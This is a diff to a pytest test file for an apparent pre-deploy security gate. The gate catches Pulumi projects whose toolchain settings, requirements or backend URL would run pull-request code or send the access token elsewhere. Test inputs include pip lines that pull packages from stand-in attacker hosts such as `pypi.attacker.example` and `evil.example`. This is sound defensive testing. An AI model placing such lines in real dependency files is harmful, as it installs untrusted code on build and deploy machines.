@@ -99,17 +99,6 @@ def test_a_package_only_the_virtualenv_has_is_the_one_the_program_imports(tmp_pa
     assert run.code == 1 and ("AGID-AWS-001", "leak") in violations(run), run.stdout + run.stderr
 
 
-def test_uv_uses_the_projects_dot_venv_and_a_harmless_venv_passes(tmp_path: Path) -> None:
-    uv = "name: acme\nruntime:\n  name: python\n  options:\n    toolchain: uv\n"
-    project = small_project(tmp_path / "p", KEY_WHEN_BOOTED, uv)
-    make_virtualenv(project / ".venv", **{"zz_boot.pth": "import os; os.environ['ACME_BOOT'] = '1'\n"})
-    assert run_cli(project, *GUARD, "--stack", "dev").code == 1
-    harmless = small_project(tmp_path / "q", KEY_WHEN_BOOTED, uv)
-    make_virtualenv(harmless / ".venv", **{"zz_note.pth": "# a comment line\n"})
-    run = run_cli(harmless, *GUARD, "--stack", "dev")
-    assert run.code == 0, run.stdout + run.stderr
-
-
 @pytest.mark.parametrize(("layout", "message"), [
     ("no-cfg", "venv has no pyvenv.cfg"),
     ("copied", "is a binary inside the project tree"),
@@ -187,7 +176,8 @@ def test_project_file_keys_that_change_nothing_run_are_accepted(tmp_path: Path) 
              "template:\n  description: t\npackages:\n  terraform-provider: terraform-provider@0.8.1\n")
     project = small_project(tmp_path / "p", "import pulumi_aws as aws\naws.s3.Bucket('logs')\n",
                             "name: acme\nruntime: python\n" + extra)
-    run = run_cli(project, *GUARD, "--stack", "dev")
+    # the backend is the operator's: the same URL passed from the trusted side
+    run = run_cli(project, *GUARD, "--stack", "dev", "--backend-url", "s3://acme-state")
     assert run.code == 0, run.stdout + run.stderr
 
 
@@ -237,3 +227,112 @@ def test_a_missing_main_is_a_config_error(tmp_path: Path) -> None:
     small_project(tmp_path / "p", "", "name: acme\nruntime: python\nmain: deploy.py\n")
     with pytest.raises(ConfigError, match="main: deploy.py does not exist"):
         find_project(tmp_path / "p")
+
+
+# --- red21 2-5: what the toolchain runs before the program, and where the state goes ----------------------------
+
+CLEAN = "import pulumi_aws as aws\naws.s3.Bucket('logs')\n"
+
+
+def runtime_project(root: Path, options: str) -> Path:
+    return small_project(root, CLEAN, "name: acme\nruntime:\n  name: python\n  options:\n" + options)
+
+
+@pytest.mark.parametrize(("options", "files", "message"), [
+    # r21-2: pulumi runs `python -m mypy` on the project before the program; mypy imports mypy.ini's plugins
+    ("    typechecker: mypy\n", {"mypy.ini": "[mypy]\nplugins = typing_helpers.py\n", "typing_helpers.py": ""},
+     "Pulumi.yaml: runtime.options.typechecker: 'mypy': `pulumi preview`/`up` runs that type checker"),
+    ("    typechecker: pyright\n", {"pyrightconfig.json": "{}\n"}, "runtime.options.typechecker: 'pyright'"),
+    ("    someFutureOption: 1\n    toolchain: pip\n", {},
+     "runtime.options: someFutureOption: not an option the gate knows (it accepts `toolchain: pip`"),
+    # r21-3: `uv run` syncs (builds) the project with its in-tree build backend
+    ("    toolchain: uv\n", {"pyproject.toml": "[project]\nname = 'a'\nversion = '0'\n[build-system]\nrequires = []\n"
+                                             "build-backend = 'build_helpers'\nbackend-path = ['tools']\n"},
+     "runtime.options.toolchain: uv: at `pulumi preview`/`up` `uv run` syncs the nearest pyproject.toml"),
+    # r21-4: poetry adds .poetry/plugins as a site dir whenever it runs
+    ("    toolchain: poetry\n", {".poetry/plugins/zz.pth": "import os\n"},
+     "runtime.options.toolchain: poetry: at `pulumi preview`/`up` poetry loads the project's `.poetry/plugins`"),
+])
+def test_runtime_options_that_run_project_code_before_the_program_get_no_verdict(tmp_path: Path, options: str,
+                                                                               files: dict, message: str) -> None:
+    project = runtime_project(tmp_path / "p", options)
+    for name, text in files.items():
+        (project / name).parent.mkdir(parents=True, exist_ok=True)
+        (project / name).write_text(text)
+    run = run_cli(project, *GUARD, "--stack", "dev")
+    assert run.code == 2 and message in run.stdout, run.stdout
+
+
+def test_the_same_project_files_under_pip_without_a_typechecker_are_accepted(tmp_path: Path) -> None:
+    # the look-alike: mypy.ini, pyproject.toml and .poetry/ beside a pip project that names an existing virtualenv;
+    # nothing at `pulumi up` reads them (pip runs only the virtualenv's python on the program)
+    project = runtime_project(tmp_path / "p", "    toolchain: pip\n    virtualenv: venv\n")
+    make_virtualenv(project / "venv")
+    (project / "mypy.ini").write_text("[mypy]\nplugins = typing_helpers.py\n")
+    (project / "pyproject.toml").write_text("[project]\nname = 'a'\nversion = '0'\n")
+    (project / ".poetry" / "plugins").mkdir(parents=True)
+    run = run_cli(project, *GUARD, "--stack", "dev")
+    assert run.code == 0, run.stdout + run.stderr
+
+
+def test_a_runtime_key_beside_name_and_options_gets_no_verdict(tmp_path: Path) -> None:
+    project = small_project(tmp_path / "p", CLEAN, "name: acme\nruntime:\n  name: python\n  hooks: ./x\n")
+    run = run_cli(project, *GUARD, "--stack", "dev")
+    assert run.code == 2 and "runtime: hooks: Pulumi's `runtime:` holds only `name` and `options`" in run.stdout
+
+
+@pytest.mark.parametrize(("requirements", "message"), [
+    # r21-3b: the deploy creates the missing venv and runs `pip install -r requirements.txt`
+    ("pulumi>=3\n--extra-index-url https://pypi.attacker.example/simple\n", "requirements.txt:2: --extra-index-url"),
+    ("pulumi>=3\n-e ./tools/helper\n", "requirements.txt:2: -e: an option"),
+    ("pulumi>=3\n./tools/helper\n", "requirements.txt:2: './tools/helper' is not a registry requirement"),
+    ("helper @ git+https://github.com/acme/helper\n", "requirements.txt:1: 'helper @ git+https"),
+    ("pulumi>=3 \\\n  --index-url=https://x.example/simple\n", "requirements.txt:1: --index-url"),
+    ("-r more.txt\n", "more.txt:1: --find-links"),
+])
+def test_requirements_a_missing_virtualenv_would_install_from_the_pull_requests_sources_get_no_verdict(
+        tmp_path: Path, requirements: str, message: str) -> None:
+    project = runtime_project(tmp_path / "p", "    toolchain: pip\n    virtualenv: venv\n")
+    (project / "requirements.txt").write_text(requirements)
+    (project / "more.txt").write_text("--find-links ./wheels\n")
+    run = run_cli(project, *GUARD, "--stack", "dev")
+    assert run.code == 2, run.stdout
+    assert message in run.stdout and "the virtualenv 'venv' does not exist" in run.stdout, run.stdout
+
+
+def test_registry_requirements_a_missing_virtualenv_would_install_are_accepted(tmp_path: Path) -> None:
+    project = runtime_project(tmp_path / "p", "    toolchain: pip\n    virtualenv: venv\n")
+    (project / "requirements.txt").write_text(
+        "# pins\npulumi>=3,<4  # the SDK\npulumi-aws[extra] ==7.1.0 ; python_version >= '3.9'\n"
+        "-r more.txt\n--require-hashes\nboto3==1.34.0 --hash=sha256:00\n")
+    (project / "more.txt").write_text("PyYAML>=6\n")
+    run = run_cli(project, *GUARD, "--stack", "dev")
+    assert run.code == 0, run.stdout + run.stderr
+
+
+@pytest.mark.parametrize(("line", "bad"), [
+    ("pulumi==3.1", False), ("Pulumi_AWS >= 7, < 8", False), ("a.b-c[x,y]~=1.0", False), ("x ; os_name == 'posix'", False),
+    ("x @ https://evil.example/x.whl", True), ("x @ file:///tmp/x", True), ("helper.tar.gz", True), ("x.whl", True),
+    ("../helper", True), ("https://evil.example/x.zip", True), ("--trusted-host evil.example", True),
+    ("-i https://x/simple", True), ("--no-index", True), ("--config-settings=a=b", True), ("x==1 --global-option=y", True),
+    ("-c https://evil.example/c.txt", True), ("-r ../../outside.txt", True), ("x==${VERSION}", True),
+    ("git+https://github.com/a/b#egg=b", True), ("--editable=.", True),
+])
+def test_requirements_problem_accepts_registry_lines_only(tmp_path: Path, line: str, bad: bool) -> None:
+    from agentid.preview.project_runtime import requirements_problem
+
+    (tmp_path / "requirements.txt").write_text(line + "\n")
+    assert (requirements_problem(tmp_path / "requirements.txt", tmp_path) is not None) is bad
+
+
+@pytest.mark.parametrize(("passed", "code"), [((), 2), (("s3://acme-state",), 2), (("https://api.pulumi.com",), 0)])
+def test_a_backend_the_project_names_must_be_the_operators(tmp_path: Path, passed: tuple, code: int) -> None:
+    # r21-5: backend.url chooses where `pulumi up` sends PULUMI_ACCESS_TOKEN and keeps the state
+    project = small_project(tmp_path / "p", CLEAN,
+                            "name: acme\nruntime: python\nbackend:\n  url: https://api.pulumi.com\n")
+    arguments = [word for url in passed for word in ("--backend-url", url)]
+    run = run_cli(project, *GUARD, "--stack", "dev", *arguments)
+    assert run.code == code, run.stdout + run.stderr
+    if code == 2:
+        assert ("Pulumi.yaml: backend.url: 'https://api.pulumi.com': `pulumi up` would send the Pulumi access token"
+                in run.stdout), run.stdout
